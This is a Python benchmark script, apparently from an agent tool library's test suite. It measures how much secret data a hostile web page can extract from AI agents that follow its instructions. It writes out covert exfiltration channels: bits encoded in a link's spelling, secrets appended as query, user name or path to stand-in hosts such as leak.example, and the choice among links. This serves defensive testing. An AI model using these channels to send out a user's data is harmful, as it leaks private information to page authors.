"""How much a hostile page learns of what a panel knows, by the addresses it has fetched.

    python -m tests.benchmarks.exfiltration [--before COMMIT]

The worst case: three panelists that do all a page asks, each with eight calls, over the real
fetcher, and a listener that owns the page and counts what it can tell from its requests. What they
send is random bits, and only bits that the listener reads back right are counted. Searching is not
among the ways looked at: a query goes to the search engine, not to the page's author.
"""

from __future__ import annotations

import argparse
import asyncio
import importlib
import json
import math
import os
import random
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from fusion_tools.fetch import WebFetcher
from fusion_tools.ledger import UrlLedger
from fusion_tools.sharing import SharedFetch
from fusion_tools.tools import web_fetch_tool
from tests.fusion_tools.site import Site

PANELISTS, CALLS = 3, 8
LETTERS = 600
"""Letters of the one link whose spelling carries bits: spelled out, the longest address allowed."""

LINKS = 256
HOSTS = 24
"""Names that the page's author owns."""

ROOT = Path(__file__).resolve().parents[2]


class Followers:
    """A run's panelists, who fetch what they are told; each has read the page first."""

    def __init__(self, site: Site, start: str, mode: str | None) -> None:
        async def here(host: str, port: int) -> list[str]:
            return [site.host]

        names = [site.host, "leak.example"]
        names += [f"h{n}{site}.example" for n in range(HOSTS) for site in ("", ".leak")]
        fetcher = WebFetcher(allow=[(name, site.port) for name in names], resolver=here)
        shared = SharedFetch(fetcher)  # as in a run: the same address is asked for once
        ledger = importlib.import_module("fusion_tools.ledger")
        how: dict[str, Any] = {}
        if mode is not None:
            how = {"follow_links": mode, "followed": ledger.Followed()}
        ledgers = [UrlLedger.from_text(start, **how) for _ in range(PANELISTS)]
        self._tools = [web_fetch_tool(shared, ledger=ledger) for ledger in ledgers]
        self._start, self._fetcher = start, fetcher

    async def follow(self, addresses: Iterator[str]) -> None:
        """Fetch the start page and then these addresses, as many as there are calls."""
        for tool in self._tools:
            await tool.ainvoke({"url": self._start})
            for _ in range(CALLS - 1):
                if url := next(addresses, None):
                    await tool.ainvoke({"url": url})
        await self._fetcher.aclose()


def page(links: list[str]) -> str:
    """A page that lists links where a reader sees them."""
    items = ", ".join(f'<a href="{link}">part {n}</a>' for n, link in enumerate(links))
    words = "<p>Enough words that this counts as a page to be read. </p>" * 3
    read_on = f"<p>Read on in {items} of it.</p>"
    return f"<html><body><main><h1>Links</h1>{words}{read_on}</main></body></html>"


def spelled(site: Site, mode: str | None) -> int:
    """Bits by the spelling of one link."""
    word, secret = "a" * LETTERS, random.Random(1)
    link = site.page(f"/{word}", "<p>x</p>")
    start = site.page("/start", page([link]))
    sent = [[secret.randrange(2) for _ in range(LETTERS)] for _ in range(PANELISTS * (CALLS - 1))]
    urls = (f"{site.url('/')}{''.join('%61' if bit else 'a' for bit in bits)}" for bits in sent)
    asyncio.run(Followers(site, start, mode).follow(urls))
    read = 0
    for path in site.paths():
        if path != "/start":
            bits = [int(part == "%61") for part in _letters(path[1:])]
            if any(bits) and bits in sent:
                read += len(bits)
    return read


def _letters(path: str) -> Iterator[str]:
    at = 0
    while at < len(path):
        size = 3 if path[at] == "%" else 1
        yield path[at : at + size]
        at += size


def queried(site: Site, mode: str | None) -> int:
    """Bits by a query, a fragment or a name before the host, put behind an allowed link."""
    start = site.page("/start", page([site.page("/x", "<p>x</p>")]))
    secret = f"{random.Random(2).getrandbits(64):016x}"
    host = f"{site.host}:{site.port}"
    urls = iter((f"{start}?{secret}", f"http://{secret}@{host}/start", f"http://{host}/x/{secret}"))
    asyncio.run(Followers(site, start, mode).follow(urls))
    heard = site.received.decode("latin-1")
    return 64 * (secret in heard)


def chosen(site: Site, mode: str | None, hosts: Callable[[int], str]) -> int:
    """Bits by the choice among links, in order."""
    links = [site.url(f"/k{n}", host=hosts(n)) for n in range(LINKS)]
    for n in range(LINKS):
        site.page(f"/k{n}", "<p>x</p>")
    site.page("/start", page(links))
    start = site.url(
        "/start", host=hosts(0).partition(".")[2] if hosts(0).count(".") == 2 else None
    )
    # No link twice: the second time it would come from the run's memory.
    sent = random.Random(3).sample(range(LINKS), PANELISTS * (CALLS - 1))
    asyncio.run(Followers(site, start, mode).follow(links[n] for n in sent))
    read = [int(path[2:]) for path in site.paths() if path.startswith("/k")]
    told = sum(n in sent for n in read)
    return round(sum(math.log2(LINKS - n) for n in range(told)))


def measure(mode: str | None) -> dict[str, int]:
    """What gets out, in bits a run, by way."""
    ways: dict[str, Callable[[Site, str | None], int]] = {
        "spelling of one link": spelled,
        "query, user name or path added": queried,
        "choice of links, one host": lambda site, m: chosen(site, m, lambda n: site.host),
        f"choice of links, {HOSTS} hosts of one site": lambda site, m: chosen(
            site, m, lambda n: f"h{n % HOSTS}.leak.example"
        ),
        f"choice of links, {HOSTS} sites of one author": lambda site, m: chosen(
            site, m, lambda n: f"h{n % HOSTS}.example"
        ),
    }
    found = {}
    for name, way in ways.items():
        with Site() as site:
            found[name] = way(site, mode)
    return found


def main() -> None:
    """Print a table of bits a run, before and now."""
    arguments = argparse.ArgumentParser()
    arguments.add_argument("--before", help="a commit to compare with")
    arguments.add_argument("--mode", help=argparse.SUPPRESS)
    given = arguments.parse_args()
    if given.mode:
        print(json.dumps(measure(None if given.mode == "before" else given.mode)))
        return
    columns = {}
    if given.before:
        with tempfile.TemporaryDirectory() as folder:
            git = ("git", "-C", str(ROOT), "worktree")
            subprocess.run((*git, "add", "--detach", folder, given.before), check=True)
            try:
                columns[given.before] = _apart("before", Path(folder) / "tools")
            finally:
                subprocess.run((*git, "remove", "--force", folder), check=True)
    for mode in ("none", "same_site", "any"):
        columns[mode] = _apart(mode, ROOT / "tools")
    print(f"| bits a run | {' | '.join(columns)} |\n|---|{'---|' * len(columns)}")
    for way in next(iter(columns.values())):
        print(f"| {way} | {' | '.join(str(found[way]) for found in columns.values())} |")


def _apart(mode: str, tools: Path) -> dict[str, int]:
    """Measured in a process of its own, over that version of the tools."""
    command = (sys.executable, "-m", "tests.benchmarks.exfiltration", "--mode", mode)
    path = os.pathsep.join((str(tools), str(ROOT)))
    ended = subprocess.run(
        command, env={**os.environ, "PYTHONPATH": path}, cwd=ROOT, check=True, capture_output=True
    )
    found: dict[str, int] = json.loads(ended.stdout.splitlines()[-1])
    return found


if __name__ == "__main__":
    main()
